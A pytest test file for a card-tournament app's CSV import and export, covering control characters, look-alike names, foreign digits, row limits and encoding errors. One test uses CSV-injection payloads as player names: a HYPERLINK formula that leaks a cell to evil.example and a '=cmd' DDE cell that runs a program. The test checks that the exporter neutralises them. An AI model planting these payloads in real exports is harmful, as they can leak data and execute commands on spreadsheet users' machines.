"""CSV files are typed input too: cells in the digits 0-9, names as plain text (with the
row named), imports within the store's limit, many bad rows listed short, and exports a
spreadsheet cannot run as formulas (docs/csv-formats.md)."""

from __future__ import annotations

import io
from typing import Any

import pytest

from tournament.domain.commands import csvio
from tournament.domain.commands.csvio import (
    CsvImportError,
    import_players,
    import_results,
    neutral,
    standings_csv,
)
from tournament.domain.model.errors import DomainError
from tournament.domain.model.state import fold
from tournament.domain.standings import standings
from tournament.domain.testing import paired, played, registered


def refusal(rows: str, events: list[Any] | None = None, *, players: bool = False) -> CsvImportError:
    """The import of ``rows`` refused, on a best-of-3 match 1.1 of players 1 and 2."""
    events = events if events is not None else paired(players=2, best_of=3)
    with pytest.raises(CsvImportError) as refused:
        (import_players if players else import_results)(events, io.StringIO(rows))
    return refused.value


def test_a_control_character_in_an_imported_name_names_the_row_field_and_position() -> None:
    rows = 'name,club\nAnna,SC Ried\nEvil\x1b[2J,SC Ried\nBerti,"A\nFake line"\n'
    problems = refusal(rows, registered(players=0), players=True).problems
    assert problems == [
        (3, "name: control character U+001B (ESCAPE) at position 5; a name is plain text "
            "(T-player)"),
        (4, "club: control character U+000A (LINE FEED) at position 2; a club is plain text "
            "(T-player)"),
    ]  # fmt: skip


def test_a_look_alike_of_a_name_in_the_same_file_is_a_duplicate() -> None:
    rows = "name,club\nAnna,SC Ried\n\u0410nna\u200b,SC Ried\n"
    [(line, message)] = refusal(rows, registered(players=0), players=True).problems
    assert line == 3 and "looks the same as Anna (SC Ried), registered as player 1" in message


def test_a_name_longer_than_100_characters_is_refused_with_an_excerpt() -> None:
    rows = f"name\n{'x' * 5000}\n"
    [(line, message)] = refusal(rows, registered(players=0), players=True).problems
    assert line == 2 and "(5,000 characters) is longer than 100 characters" in message
    assert len(message) < 150


@pytest.mark.parametrize(
    ("row", "problem"),
    [
        ("1.1,²,2", "winner: '²' is not a whole number (digits 0-9)"),
        ("1.1,1,٣", "game_points: '٣' is not a whole number (digits 0-9)"),
        ("1.1,1,2,,,٦٦:٤٠", "card_points: '٦٦' is not a whole number (digits 0-9)"),
        ("1.1,,,,,,,٧ ٥ ٤ ١ ٠ / ٧ ٦ ٣", "is not a tally like"),
        ("1.1,,,,,,,,²", "forfeit: '²' is not a start number or 'both'"),
        ("1.1,,,,,,,,34x", "forfeit: '34x' is not a start number or 'both'"),
        ("².1,1,2", "match: there is no match '².1'"),
        ("2.1,1,2", "match: round 2 is not drawn yet"),
        ("1,1,1,2", "there is no match '1,1'; did you mean 1.1?"),
    ],
)
def test_a_cell_in_other_digits_is_refused_with_its_row_not_a_crash(row: str, problem: str) -> None:
    header = "match,winner,game_points,dealer,reason,card_points,closed,tally,forfeit\n"
    if row.startswith("1,1"):  # the decimal-comma habit: quoted so it is one cell
        row = '"1,1"' + row[3:]
    [(line, message)] = refusal(header + row + "\n").problems
    assert line == 2 and problem in message


def test_more_than_10000_rows_are_refused_before_any_row_is_checked() -> None:
    rows = "match,winner,game_points\n" + "9.9,1,9\n" * 10_001  # every row is bad, too
    refused = refusal(rows)
    assert refused.problems == [
        (10_002, "more than 10,000 results in one file (10,001 rows): split it")
    ]
    assert refused.text("sheet.csv") == (
        "sheet.csv, line 10002: more than 10,000 results in one file (10,001 rows): split it; "
        "nothing imported"
    )


def test_rows_that_make_more_events_than_one_import_stores_are_refused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # A first hand with its dealer also records the match's first dealer: two events.
    monkeypatch.setattr(csvio, "MAX_ROWS", 1)
    events = paired(players=2, best_of=3, first_dealer="as_entered")
    refused = refusal("match,winner,game_points,dealer\n1.1,1,2,2\n", events)
    assert refused.problems == [
        (2, "these 1 rows make 2 events, more than 1 in one import: split the file")
    ]


def test_many_bad_rows_list_the_first_20_and_say_how_many_more() -> None:
    text = refusal("match,winner,game_points\n" + "1.1,1,7\n" * 2_800).text("sheet.csv")
    lines = text.splitlines()
    assert lines[0] == "sheet.csv: 2,800 bad rows, nothing imported:"
    assert len(lines) == 1 + 20 + 1 and lines[1].startswith("line 2: game_points:")
    assert lines[-1] == "... and 2,780 more bad rows"


def test_formula_cells_of_a_standings_csv_are_neutralised_and_numbers_stay_numbers() -> None:
    rows = standings(played(players=4, rounds=1, seed=5))
    hostile = ['=HYPERLINK("http://evil.example/?leak="&B2,"Anna")', "+1", "-Doris", "@SUM(A1)"]
    for row, name in zip(rows, hostile, strict=True):
        row.name, row.club = name, "=cmd|' /C calc'!A0"
    for excel in (False, True):
        text = standings_csv(rows, excel=excel).lstrip("\ufeff")
        assert "=HYPERLINK" not in text.replace("'=HYPERLINK", "")
        assert "'+1" in text and "'-Doris" in text and "'@SUM(A1)" in text
        assert "'=cmd" in text and ",=cmd" not in text and ";=cmd" not in text
    plain = standings_csv(rows).splitlines()
    column = plain[0].split(",").index("bummerl_diff")
    diffs = [line.split(",")[column] for line in plain[1:] if '"' not in line]
    assert any(d.startswith("-") for d in diffs)  # a negative difference is still a number


@pytest.mark.parametrize("cell", ["=1+2", "+1", "-x", "@x", "\tx", "\rx"])
def test_every_formula_start_is_neutralised(cell: str) -> None:
    assert neutral(cell) == "'" + cell
    assert neutral(-3) == -3 and neutral(4.5) == 4.5 and neutral("Anna-Lena") == "Anna-Lena"


def test_tallies_as_the_sheet_gives_them_are_checked_in_order_as_one_action() -> None:
    from tournament.domain import commands as c

    t = fold(paired(players=2, best_of=3))
    events = c.record_tallies(t, "1.1", ["7 5 4 1 0 / 7 6 3", "7 4 2 0 / 7 5 3 1"])
    assert [e.type for e in events] == ["result.bummerl_tally_recorded"] * 2
    after = fold([*paired(players=2, best_of=3), *events]).matches["1.1"]
    assert after.decided and after.summary.bummerl == (2, 0)
    with pytest.raises(DomainError) as refused:
        c.record_tallies(t, "1.1", ["7 5 4 1 0 / 7 6 3", "7 4 2 0 / 7 5 3 5"])
    assert str(refused.value).startswith("tally: tally 2 of 2: match 1.1, Bummerl 2: hand 3:")
    with pytest.raises(DomainError) as refused:
        c.record_tallies(t, "1.1", ["7 4 1 0 / 7 6"] * 3)
    assert "tally 3 of 3" in str(refused.value) and "(R20)" in str(refused.value)


def test_a_row_that_is_two_kinds_of_result_is_refused_with_its_line() -> None:
    """A forfeit and a hand, or a tally and a hand's columns, in one row: what the other
    columns say would be dropped without a word (trial 1, #2, as a CSV row)."""
    events = paired(players=4, best_of=1)
    for row, named in (
        ("1.1,1,2,,3", "forfeit and a hand (winner, game_points)"),
        ("1.1,,,7 4 1 0 / 7 5,3", "forfeit and tally"),
        ("1.1,1,,7 4 1 0 / 7 5,", "tally and a hand (winner)"),
    ):
        sheet = io.StringIO(f"match,winner,game_points,tally,forfeit\n{row}\n")
        with pytest.raises(CsvImportError) as caught:
            import_results(events, sheet)
        [(line, message)] = caught.value.problems
        assert line == 2 and named in message and "not several" in message


def test_a_byte_that_is_not_utf8_after_a_byte_order_mark_is_named_where_it_is() -> None:
    """Excel's BOM is three bytes before the text: the bad byte and its line are the
    file's, not three bytes off."""
    with pytest.raises(CsvImportError) as caught:
        csvio.decode(b"\xef\xbb\xbfname;club\nA;X\nGr\xfcner;X\n")
    assert caught.value.problems == [
        (3, "the file is not UTF-8 text (byte 0xfc); save it as 'CSV UTF-8'")
    ]


def test_a_rule_a_rows_message_cites_is_not_repeated() -> None:
    events = paired(2, best_of=3, first_dealer="higher_seed")
    m = fold(events).matches["1.1"]
    wrong = m.players[1 - (m.first_dealer or 0)]
    sheet = io.StringIO(f"match,winner,game_points,dealer\n1.1,1,3,{wrong}\n")
    with pytest.raises(CsvImportError) as caught:
        import_results(events, sheet)
    [(_, message)] = caught.value.problems
    assert message.endswith("(R18: the deal alternates every hand)")
    assert message.count("R18") == 1
